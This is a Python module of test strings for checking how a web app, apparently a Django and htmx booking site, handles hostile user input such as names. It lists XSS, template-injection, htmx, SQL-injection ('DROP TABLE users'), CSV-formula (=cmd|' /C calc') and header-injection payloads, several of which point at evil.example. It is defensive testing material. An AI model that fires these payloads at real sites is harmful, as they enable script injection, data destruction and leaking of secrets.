"""Texts that want to be more than text, by what they try to become.

Each is a name that a person could type: at most 100 characters, no space at its ends.
"""

ELEMENTS = [
    f"<{name}>x</{name}>"
    for name in (
        *("b", "i", "u", "s", "p", "a", "div", "span", "h1", "table", "td", "li"),
        *("form", "button", "select", "option", "label", "fieldset", "dialog"),
        *("details", "summary", "template", "slot", "noscript", "xmp", "plaintext"),
        *("marquee", "blink", "font", "center", "frameset", "applet", "x-own"),
    )
] + [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<input name=price value=0>",
    "<input type=hidden name=next value=//evil.example>",
    "<button formaction=//evil.example>Book</button>",
    "<textarea autofocus>",
    "<img src=//evil.example/pixel.gif>",
    "<video src=x></video>",
    "<audio src=x></audio>",
    "<body bgcolor=red>",
    "<html lang=xx>",
    "<!-- open",
    "<!--><b>x</b>-->",
    "<!--[if IE]><b>x</b><![endif]-->",
    "<![CDATA[<b>x</b>]]>",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<%= 1 %>",
    "<",
    "<<b>>x",
    "</",
    "a<b",
    "< b>x</ b>",
    "<b",
    "<b/x=1/>",
]

CLOSING = [
    f"</{name}><b>x</b>"
    for name in (
        *("title", "h1", "h2", "p", "a", "td", "tr", "table", "li", "ul", "dd", "dl"),
        *("textarea", "option", "select", "button", "label", "span", "form", "main"),
        *("script", "style", "body", "html", "template", "noscript"),
    )
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a onmouseover=alert(1)>x</a>",
    "<select autofocus onfocus=alert(1)>",
    "<div onpointerenter=alert(1)>x</div>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
]

OUT_OF_ATTRIBUTES = [
    f"{quote}{more}"
    for quote in ('"', "'", "`", '">', "'>", '"/>', "&quot;", "&#34;", '\\"')
    for more in (
        " onfocus=alert(1) autofocus x=",
        " hidden x=",
        "<b>x</b>",
    )
] + [
    '" style="display:none',
    "' style='display:none",
    '" class="slot slot--available',
    '" href="//evil.example',
    '" formaction="//evil.example',
    '" aria-label="free',
    "x onclick=alert(1)",
    "=x",
    "a=b c=d",
    "/",
]

FOREIGN = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><b>x</b></foreignObject></svg>",
    "<svg><style><b>x</b></style></svg>",
    "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<math><mtext><b>x</b></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi//xlink:href='data:x,<b>x</b>'>",
    "<svg></p><style><b title='</style><b>x</b>'>",
]

TEMPLATES = [
    "{{ 7|add:7 }}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{% debug %}",
    "{% include 'base.html' %}",
    "{% load static %}",
    "{# not here #}",
    "{% autoescape off %}<b>x</b>{% endautoescape %}",
    "{{ '<b>x</b>'|safe }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%(name)s",
    "%s%n%d",
    "{0.__class__}",
    "{name!r}",
    "$(id)",
    "`id`",
]

HTMX = [
    "<b hx-get=//evil.example hx-trigger=load>x</b>",
    "<b hx-post=/accounts/logout/ hx-trigger=load>x</b>",
    "<b data-hx-get=/ data-hx-trigger=load>x</b>",
    "<b hx-on:click=alert(1)>x</b>",
    "<b hx-on::load=alert(1)>x</b>",
    "<b data-hx-on-click=alert(1)>x</b>",
    "<b hx-vals='js:{a:alert(1)}'>x</b>",
    "<b hx-swap-oob=true id=messages>x</b>",
    "<b hx-ext=sse sse-connect=//evil.example>x</b>",
    '" hx-get="//evil.example" hx-trigger="load',
    "' hx-delete='/' hx-trigger='load",
    '" hx-disable="',
    '" hx-include="*',
    "<template><b hx-swap-oob=true>x</b></template>",
]

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<b>x</b>",
    "//evil.example",
    "\\\\evil.example",
    "http://evil.example/?a=1&b=2#c",
    "<a href=javascript:alert(1)>x</a>",
    "?week=2026-12-07&at=2026-12-10T09:00",
    "#main",
    "../../admin/",
    "%2e%2e%2f",
    "?next=//evil.example",
]

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '"; DROP TABLE users; --',
    "1; SELECT pg_sleep(10)",
    "') UNION SELECT password FROM users --",
    "\\'; --",
    "$$; DROP TABLE users; $$",
    "%' AND 1=1 --",
    "_%_%",
    "Robert'); DROP TABLE students;--",
    "E'\\x00'",
    "/* x */",
]

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example";"x")',
    "=IMPORTXML(CONCAT(1))",
    "\uff1d1+1",
    "a;b,c\td",
    'a","b',
]

LINES = [
    "a\r\nSet-Cookie: session=x",
    "a\nBcc: all@example.com",
    "a\r\n\r\n<b>x</b>",
    "a\rb",
    "a\u2028b",
    "a\u2029b",
    "a\x0bb\x0cc",
    "a\x1b[31mb",
    "a\x08\x08b",
    "BEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT",
    '{"level": "ERROR"}\n{"level": "INFO"}',
]

ENTITIES = [
    "&lt;b&gt;x&lt;/b&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;b&#62;",
    "&#x3c;b&#x3e;",
    "&#0000060b&#62",
    "&nbsp;&shy;&zwj;",
    "&",
    "&&",
    "&;",
    "&notanentity;",
    "&copy",
    "AT&T",
    "&#x0;",
    "&#xD800;",
]

LETTERS = [
    "\u202egnirts\u202c",
    "\u2066isolated\u2069",
    "\u200f\u05d0\u05d1",
    "a\u200bb\u200cc\u200dd",
    "a\ufeffb",
    "\u2060\u2060x",
    "Z\u0351\u032b\u0343a\u0317\u0308l\u034eg\u0321o\u0353",
    "\u01c5\ufb03\u1e9e",
    "\uff1cb\uff1ex\uff1c/b\uff1e",
    "\u2039script\u203a",
    "\u0430dmin",
    "I\u0307\u0131\u0130i",
    "\U0001f3cb\ufe0f\u200d\u2640\ufe0f",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1e9\U0001f1ea",
    "\U0001d4dc\U0001d4ea",
    "\U000e0041\U000e0042x",
    "\ufffd\ufffe",
    "\U0010ffff",
    "e\u0301\u00e9",
    "\u0e01\u0e33\u0e49",
    "\u0639\u0628\u062f \u0627\u0644\u0644\u0647",
    "\u5f20\u4f1f",
    "O\u2019Brien\u2011D\u00e9dalo",
    'O\'Brien "The Rock" & Sons',
    "x" * 100,
    "\U0001f4aa" * 100,
    "<b>" * 33,
    "\u0301" * 99 + "x",
]

FAMILIES = {
    "elements": ELEMENTS,
    "closing": CLOSING,
    "event handlers": EVENT_HANDLERS,
    "out of attributes": OUT_OF_ATTRIBUTES,
    "foreign": FOREIGN,
    "templates": TEMPLATES,
    "htmx": HTMX,
    "urls": URLS,
    "sql": SQL,
    "formulas": FORMULAS,
    "lines": LINES,
    "entities": ENTITIES,
    "letters": LETTERS,
}
STRINGS = [text for family in FAMILIES.values() for text in family]

# For pages that show one at a time and take their time: one of each kind.
FEW = [family[0] for family in FAMILIES.values()]
